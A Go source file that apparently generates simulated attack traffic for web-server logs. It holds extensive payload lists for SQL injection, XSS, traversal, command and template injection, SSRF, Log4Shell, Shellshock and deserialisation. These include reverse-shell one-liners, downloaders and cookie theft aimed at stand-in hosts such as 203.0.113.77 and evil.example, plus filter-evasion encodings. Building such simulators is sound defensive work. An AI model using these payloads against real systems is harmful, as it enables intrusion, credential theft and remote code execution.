package truth

import (
	"fmt"
	"net/url"
	"strings"
	"time"
)

// Those who send what should be executed.
var injectKinds = []Kind{
	{Name: "sql", play: func(w *World) { w.inject(sqlPayloads, 2, 30) }},
	{Name: "sql-once", play: func(w *World) { w.inject(sqlPayloads, 1, 1) }},
	{Name: "script", play: func(w *World) { w.inject(scriptPayloads, 2, 20) }},
	{Name: "script-once", play: func(w *World) { w.inject(scriptPayloads, 1, 1) }},
	{Name: "traversal", play: func(w *World) { w.inject(traversalPayloads, 1, 15) }},
	{Name: "traversal-path", play: func(w *World) {
		a := w.guesser(5 * time.Minute)
		for range a.from(1, 8) {
			up := a.pick("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "%252e%252e/", "..\\", "..%5c", "..%c0%af", ".%2e/", "..;/", "....//")
			a.get(a.pick("/", "/static/", "/assets/", "/cgi-bin/", "/icons/", "/images/", "/api/")+strings.Repeat(up, a.from(3, 9))+a.pick("etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "etc/hosts", "WEB-INF/web.xml", "boot.ini", "root/.ssh/id_rsa"), a.choose(400, 404, 403, 200))
			a.pause(300*time.Millisecond, 9*time.Second)
		}
	}},
	{Name: "remote-file", play: func(w *World) { w.inject(remotePayloads, 1, 10) }},
	{Name: "command", play: func(w *World) { w.inject(commandPayloads, 1, 12) }},
	{Name: "template", play: func(w *World) { w.inject(templatePayloads, 1, 8) }},
	{Name: "php-code", play: func(w *World) { w.inject(phpPayloads, 1, 8) }},
	{Name: "own-network", play: func(w *World) { w.inject(ssrfPayloads, 1, 8) }},
	{Name: "xml-ldap-header", play: func(w *World) { w.inject(otherPayloads, 1, 8) }},
	{Name: "log4shell", play: func(w *World) {
		a := w.guesser(3 * time.Minute)
		for range a.from(1, 6) {
			text := a.jndi()
			switch a.IntN(4) {
			case 0:
				a.get("/?"+a.pick("x", "q", "id", "search")+"="+a.encoded(text), 200)
			case 1:
				a.get("/"+a.encoded(text), a.site.missing)
			case 2:
				a.referer = text
				a.get("/", 200)
				a.referer = "-"
			default:
				was := a.agent
				a.agent = text
				a.get(a.pick("/", "/login", "/api", "/solr/admin/cores"), a.choose(200, 404))
				a.agent = was
			}
			a.pause(500*time.Millisecond, 15*time.Second)
		}
	}},
	{Name: "shellshock", play: func(w *World) {
		a := w.actor(3 * time.Minute)
		for range a.from(1, 6) {
			text := a.pick("() { :; }; /bin/bash -c \"wget http://203.0.113.77/x.sh\"", "() { :;}; echo; /usr/bin/id", "() { foo;};echo; /bin/cat /etc/passwd", "() { ignored; }; /bin/ping -c 1 203.0.113.77", "() { _; } >_[$($())] { echo hi; id; }", "() {:;}; /usr/bin/perl -e 'print 1'")
			if a.chance(0.7) {
				a.agent = text
			} else {
				a.agent, a.referer = a.robot(), text
			}
			a.get(a.pick("/cgi-bin/test.cgi", "/cgi-bin/status", "/", "/cgi-sys/defaultwebpage.cgi", "/cgi-bin/hello.sh", "/cgi-mod/index.cgi"), a.choose(404, 200, 403))
			a.pause(500*time.Millisecond, 10*time.Second)
		}
	}},
	{Name: "session-deserialise", play: func(w *World) { w.inject(objectPayloads, 1, 6) }},
}

var parameters = []string{"id", "page", "cat", "q", "s", "search", "file", "product_id", "lang", "user", "name", "sort", "view", "p", "item", "article", "username", "url", "path", "template", "cmd", "data"}

// inject sends payloads, each hidden in its own way.
func (w *World) inject(payloads []string, least, most int) {
	n := w.from(least, most)
	a := w.guesser(time.Duration(n) * 10 * time.Second)
	path, parameter := a.pick("/", "/index.php", "/product.php", "/search", "/news.php", "/api/items", "/view.php", "/"+a.word()+"/", "/wp-content/plugins/"+a.word()+"/ajax.php"), a.pick(parameters...)
	status := a.choose(200, 200, 404, 500, 403, 302)
	for range n {
		text := strings.NewReplacer("{n}", fmt.Sprint(a.from(2, 9999)), "{w}", a.letters(a.from(3, 8)), "{m}", fmt.Sprint(a.from(10, 99))).Replace(a.pick(payloads...))
		before := ""
		if a.chance(0.3) {
			before = a.pick("action=view&", "id=7&", "lang=en&", "option=com_content&")
		}
		target := path + "?" + before + parameter + "=" + a.encoded(a.mixed(text))
		if a.chance(0.15) {
			target += a.pick("&x=1", "&submit=Go", "&page=1")
		}
		a.ask(a.pick("GET", "GET", "GET", "POST"), target, status, a.usual(target, status))
		a.pause(50*time.Millisecond, 8*time.Second)
	}
}

// mixed writes some letters large, or spaces as comments, as those do who mean to pass a filter.
func (a *actor) mixed(s string) string {
	switch a.IntN(8) {
	case 0:
		b := []byte(s)
		for i := range b {
			if b[i] >= 'a' && b[i] <= 'z' && a.chance(0.5) {
				b[i] -= 0x20
			}
		}
		return string(b)
	case 1:
		if strings.Contains(strings.ToLower(s), "select") {
			return strings.ReplaceAll(s, " ", a.pick("/**/", "/*!*/", "/*x*/", "\t", "\n", "%0a"))
		}
	}
	return s
}

// encoded writes a text for a URL: as a browser would, once or twice, all of it, or hardly at all.
func (a *actor) encoded(s string) string {
	switch a.IntN(6) {
	case 0:
		return url.QueryEscape(url.QueryEscape(s))
	case 1: // every byte that is no letter or digit, in small letters
		return strings.ToLower(strings.ReplaceAll(url.QueryEscape(s), "+", "%20"))
	case 2: // every byte
		var b strings.Builder
		for i := range len(s) {
			fmt.Fprintf(&b, "%%%02X", s[i])
		}
		return b.String()
	case 3: // by hand: what would break the line alone
		return strings.NewReplacer(" ", "%20", "#", "%23", "&", "%26", "\n", "%0a", "\t", "%09", "\"", "%22", "+", "%2b").Replace(s)
	case 4:
		return strings.NewReplacer(" ", "+", "#", "%23", "&", "%26", "\n", "%0A", "\t", "%09").Replace(s)
	default:
		return url.QueryEscape(s)
	}
}

func (a *actor) jndi() string {
	host := a.pick("203.0.113.77:1389/a", "evil.example/x", a.letters(8)+".oast.example/z", "127.0.0.1#"+a.letters(6)+".example/a")
	scheme := a.pick("ldap", "rmi", "dns", "ldaps", "iiop")
	return a.pick(
		"${jndi:"+scheme+"://"+host+"}",
		"${${lower:j}ndi:"+scheme+"://"+host+"}",
		"${${::-j}${::-n}${::-d}${::-i}:"+scheme+"://"+host+"}",
		"${${env:NaN:-j}ndi${env:NaN:-:}"+scheme+"://"+host+"}",
		"${jndi:${lower:l}${lower:d}ap://"+host+"}",
		"${j${k8s:k5:-ND}i${sd:k5:-:}"+scheme+"://"+host+"}",
		"${${upper:j}ndi:"+scheme+":/"+host+"}",
		"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:"+scheme+"://"+host+"}",
	)
}

var sqlPayloads = []string{
	"{n}'", "{n}' or '1'='1", "' or 1=1-- -", "' or 1=1#", "{n} or 1=1", "{n} and 1=1", "{n} and {m}={m}", "{n}) and ({m}={m}", "{n}' and '{m}'='{m}", "{n}') and ('{w}'='{w}", "{n}\" or \"\"=\"",
	"admin'--", "admin' or '1'='1'/*", "') or ('1'='1", "{n}' and {m}={m}-- {w}", "{n} and sleep(5)", "{n}' and sleep(5)#", "{n}; waitfor delay '0:0:5'--", "{n}'; waitfor delay '0:0:5'--", "{n}' and (select * from (select(sleep(5)))a)-- ",
	"{n} union select 1,2,3", "{n} union all select null,null,null-- -", "-{n}' union select 1,@@version,3-- -", "{n}' union select user(),database(),version()#", "{n} union all select null,concat(0x7171,0x716b),null-- {w}", "-{n} union select 1,group_concat(table_name),3 from information_schema.tables",
	"{n}' and extractvalue(1,concat(0x7e,(select database())))-- ", "{n} and updatexml(1,concat(0x7e,version()),1)", "{n}' order by 10-- -", "{n} order by 1--+", "{n}' group by 1,2,3-- ", "{n} and ascii(substring((select database()),1,1))>64",
	"{n}' and substring(version(),1,1)='5", "{n}';select pg_sleep(5)--", "{n}) or pg_sleep(5)--", "{n} and 1=(select count(*) from tabname)", "{n} and exists(select * from users)", "1;drop table users", "1'; drop table users;--", "{n}' or 'x'='x",
	"{n} and (select {m} from(select count(*),concat(0x71,(select (elt({m}={m},1))),0x71,floor(rand(0)*2))x from information_schema.plugins group by x)a)", "(select (case when ({m}={m}) then {n} else {n}*(select {n} from information_schema.character_sets) end))",
	"{n}' rlike sleep(5)-- ", "if(now()=sysdate(),sleep(15),0)", "0'xor(if(now()=sysdate(),sleep(15),0))xor'z", "{n} procedure analyse(extractvalue(1,concat(0x3a,version())),1)", "{n}'||(select 0x{m} from dual where {m}={m})||'", "{n}' and benchmark(5000000,md5(1))#",
	"{n} and 1=convert(int,@@version)", "{n}' and 1=cast(version() as int)--", "{n}'; exec xp_cmdshell('whoami')--", "{n} into outfile '/tmp/{w}.php'", "{n}' union select load_file('/etc/passwd')-- -", "{n}' and (select utl_inaddr.get_host_address('x') from dual)='y", "{n}'%20or%20'1'='1",
	"{n}' and row(1,2)>(select count(*),concat(version(),floor(rand()*2))x from information_schema.tables group by x)--", "{n} having 1=1--", "{n}'=0--+", "' or ''='", "{n} or true", "-1 or {m}={m}", "{n}/**/or/**/1=1", "{n}'||'", "{n}\"'", "{n}' waitfor delay '0:0:9", "{n}*(select(0)from(select(sleep(9)))v)",
}

var scriptPayloads = []string{
	"<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>", "'><script>alert('{w}')</script>", "<img src=x onerror=alert(1)>", "\"><img src=x onerror=prompt({n})>", "<svg onload=alert(1)>", "<svg/onload=confirm({n})>", "<body onload=alert(1)>", "javascript:alert(1)", "\" onmouseover=\"alert(1)",
	"' onfocus=alert(1) autofocus='", "\" autofocus onfocus=alert({n}) x=\"", "<iframe src=javascript:alert(1)>", "<iframe src=\"https://evil.example\"></iframe>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt >alert({n})</sCrIpT>",
	"</title><script>alert(1)</script>", "<a href=\"javascript:alert(1)\">x</a>", "<script src=//evil.example/x.js></script>", "\"><svg/onload=eval(atob('YWxlcnQoMSk='))>", "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>", "<marquee onstart=alert(1)>", "<object data=\"javascript:alert(1)\">", "';alert(String.fromCharCode(88,83,83))//",
	"\"-alert(1)-\"", "'-confirm`1`-'", "<input onfocus=alert(1) autofocus>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "%3Cscript%3Ealert(1)%3C/script%3E", "<isindex type=image src=1 onerror=alert(1)>", "<select onfocus=alert(1) autofocus>", "<x onclick=alert(1)>click", "<script>new Image().src='http://evil.example/?c='+document.cookie</script>",
	"\"><h1>{w}</h1><script>prompt(1)</script>", "<audio src=x onerror=alert(1)>", "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>", "<base href=//evil.example>", "<style>@import'//evil.example/x.css';</style>", "'\"()&%<acx><script>{w}({n})</script>",
}

var traversalPayloads = []string{
	"../../../../etc/passwd", "../../../../../../../../etc/passwd", "/etc/passwd", "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../../../../windows/win.ini", "../../../../proc/self/environ", "/proc/self/environ", "../../../../etc/passwd\x00", "../../../../etc/passwd\x00.jpg", "../../../wp-config.php", "..%2f..%2f..%2fetc%2fpasswd",
	"..//..//..//etc/passwd", "../../../../../var/log/apache2/access.log", "/var/log/auth.log", "file:///etc/passwd", "../../../../boot.ini", "c:\\windows\\win.ini", "c:/windows/win.ini", "../../../../etc/shadow", "/etc/hosts", "../../../../../etc/issue", "../../config.php", "..\\..\\..\\..\\boot.ini", "/../../../../etc/passwd", "....\\\\....\\\\windows\\\\win.ini", "../../../../../../usr/local/lib/php/pearcmd", "/proc/self/cmdline", "..%c0%af..%c0%af..%c0%afetc/passwd", "../../../../home/www/.ssh/id_rsa",
}

var remotePayloads = []string{
	"http://evil.example/shell.txt", "http://203.0.113.77/r57.txt?", "https://evil.example/x.php", "http://evil.example/c99.txt?cmd=id", "ftp://203.0.113.77/x.txt", "http://evil.example/id.txt??", "https://raw.githubusercontent.com/{w}/{w}/main/shell.php", "http://203.0.113.77/cmd.gif?", "\\\\203.0.113.77\\share\\x.php", "//evil.example/x.txt?", "https://pastebin.com/raw/{w}?", "http://evil.example:8080/{w}.inc", "hxxp://evil.example/a.txt?", "http://www.google.com/humans.txt?", "http://rfi.nessus.org/rfi.txt?", "https://evil.example/evil.phar",
}

var commandPayloads = []string{
	";id", "|id", "||id", "&&id", "`id`", "$(id)", ";cat /etc/passwd", "|cat /etc/passwd", "; ls -la", "| whoami", "127.0.0.1;wget http://203.0.113.77/x.sh", "127.0.0.1|curl http://203.0.113.77/x|sh", "$(wget -qO- http://203.0.113.77/x)", "`wget http://203.0.113.77/a -O /tmp/a`", ";uname -a;", "|ping -c 3 203.0.113.77", "& ping -n 3 203.0.113.77 &", "|nslookup {w}.oast.example",
	";sleep 5", "|sleep 5;", "cd /tmp;wget http://203.0.113.77/m.sh;chmod 777 m.sh;sh m.sh", "x;busybox wget http://203.0.113.77/x", "/bin/bash -c 'id'", "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1", "cmd.exe /c dir", "cmd /c whoami", "powershell -enc SQBFAFgA", "system('id');", ";nc -e /bin/sh 203.0.113.77 4444", "$(curl${IFS}203.0.113.77)", "|cat${IFS}/etc/passwd", "\nid\n", "\n/bin/cat /etc/passwd", "1;echo {w}", "'; exec('id'); '", "{w}&&curl {w}.oast.example", "1|echo {w}{n}", ";expr {n} + {n}", "a;env", "|dir c:\\", "() { :; }; id", "&set /a {n}+{n}&", ";cat</etc/passwd", "rm -rf /tmp/*;wget http://203.0.113.77/Mozi.m -O /tmp/x",
}

var templatePayloads = []string{
	"{{7*7}}", "{{{n}*{m}}}", "${7*7}", "${{n}*{m}}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "{{config}}", "{{config.items()}}", "{{self.__init__.__globals__}}", "{{''.__class__.__mro__[2].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "{php}echo `id`;{/php}", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "*{7*7}", "@(7*7)",
	"{{constructor.constructor('alert(1)')()}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ex(\"id\")}", "#set($x=7*7)$x", "{%25 for c in [].__class__.__base__.__subclasses__() %25}x{%25 endfor %25}", "{{range.constructor(\"return global\")()}}", "${class.getClassLoader()}", "[[${7*7}]]", "{{dump(app)}}", "${@print(md5({n}))}", "{$smarty.version}", "{system('id')}", "{{\"a\".toUpperCase()}}", "#{T(java.lang.Runtime)}",
}

var phpPayloads = []string{
	"php://filter/convert.base64-encode/resource=index.php", "php://filter/read=convert.base64-encode/resource=../config", "php://input", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", "data:text/plain,<?php phpinfo(); ?>", "expect://id", "phar://uploads/x.jpg", "zip://x.jpg#shell.php", "phpinfo()", "<?php phpinfo();?>", "<?php system($_GET['c']);?>", "<?=`id`?>", "eval(base64_decode('cGhwaW5mbygpOw=='))", "assert(phpinfo())", "${@phpinfo()}", "system(\"id\")", "passthru('id')", "shell_exec('id')", "call_user_func('phpinfo')", "die(md5({n}))", "print(md5({n}));", "file_put_contents('x.php','<?php eval($_POST[1]);')", "@eval($_POST['{w}']);", "/../../../../usr/local/lib/php/pearcmd&+config-create+/<?=phpinfo()?>+/tmp/x.php",
	"fwrite(fopen('x.php','w'),'x')", "response.write({n}*{n})", "'.print(md5({n})).'",
}

var ssrfPayloads = []string{
	"http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/", "http://100.100.100.200/latest/meta-data/", "http://127.0.0.1:22/", "http://localhost:6379/", "http://127.0.0.1/server-status", "http://[::1]:80/", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stats", "file:///etc/passwd", "http://0.0.0.0:8080/", "http://0x7f000001/", "http://2130706433/", "http://localhost/admin", "ldap://127.0.0.1:389/x", "http://169.254.169.254/metadata/v1.json", "http://127.1:8080/manager/html", "http://localtest.me:22", "http://10.0.0.1:80/admin", "http://192.168.0.1/",
}

var otherPayloads = []string{
	"<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">%p;]>", "<!DOCTYPE foo SYSTEM \"http://evil.example/\">", "*)(uid=*))(|(uid=*", "*)(objectClass=*)", "admin)(&(password=*))", "*)(|(mail=*", "{w}\r\nSet-Cookie: x={w}", "{w}\r\nLocation: https://evil.example/", "%0d%0aSet-Cookie:{w}={w}", "{w}\r\n\r\n<script>alert(1)</script>", "x\r\nX-Injected: 1", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>", "<!--#exec cmd=\"id\"-->", "<!--#include virtual=\"/etc/passwd\"-->", "<!--#echo var=\"DATE_LOCAL\"-->", "' or count(/child::node())=1 or 'a'='b", "' or '1'='1' or ''='",
}

var objectPayloads = []string{
	"O:8:\"stdClass\":0:{}", "O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}", "a:1:{i:0;O:4:\"{w}\":1:{s:3:\"cmd\";s:2:\"id\";}}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZA", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/x\",\"autoCommit\":true}", "{\"@type\":\"java.net.Inet4Address\",\"val\":\"{w}.oast.example\"}", "{\"__proto__\":{\"admin\":true}}", "__proto__[x]={w}", "constructor[prototype][x]={w}", "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}", "{\"$gt\":\"\"}", "{\"$where\":\"sleep(5000)\"}",
}
